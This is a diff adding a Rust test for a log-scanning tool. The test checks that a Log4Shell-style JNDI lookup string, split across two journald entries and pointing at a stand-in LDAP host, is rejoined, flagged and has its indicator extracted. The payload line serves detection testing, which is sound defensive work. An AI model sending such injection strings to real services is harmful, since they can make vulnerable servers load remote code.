@@ -336,3 +336,20 @@ fn every_engine_api_and_cli_json_shape() {
     assert!(b["findings"].as_array().unwrap().iter().any(|f| f["rule"] == "image.env-secrets"));
     assert!(!serde_json::to_string(&v).unwrap().contains("abcdefabcdef"));
 }
+
+#[test]
+fn journald_export_is_read_entry_by_entry() {
+    let dir = tempfile::tempdir().unwrap();
+    let log = b"__CURSOR=s=1\n__REALTIME_TIMESTAMP=1764252000000000\nPRIORITY=6\nCONTAINER_ID=69cb52f58d00\nCONTAINER_NAME=web\nCONTAINER_PARTIAL_MESSAGE=true\nMESSAGE=GET /?q=${jndi:ldap://jou\n\n\
+__CURSOR=s=2\n__REALTIME_TIMESTAMP=1764252000000100\nPRIORITY=6\nCONTAINER_ID=69cb52f58d00\nCONTAINER_NAME=web\nMESSAGE=rnal.example:1389/a} HTTP/1.1\n\n";
+    write_files(dir.path(), &[("web.journal", log)]);
+    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
+    let b = &v["bundles"][0];
+    assert_eq!(b["artifacts"][0]["kind"], "journal-export");
+    let hits = b["log_hits"].as_array().unwrap();
+    let h = hits.iter().find(|h| h["rule"].as_str().unwrap().contains("jndi")).expect("joined JNDI hit");
+    assert_eq!(h["locator"]["line"], 1);
+    assert_eq!(h["time"], "2025-11-27T14:00:00.000000000Z");
+    assert_eq!(h["stream"], "stdout");
+    assert!(h["iocs"].to_string().contains("journal.example"), "{}", h["iocs"]);
+}
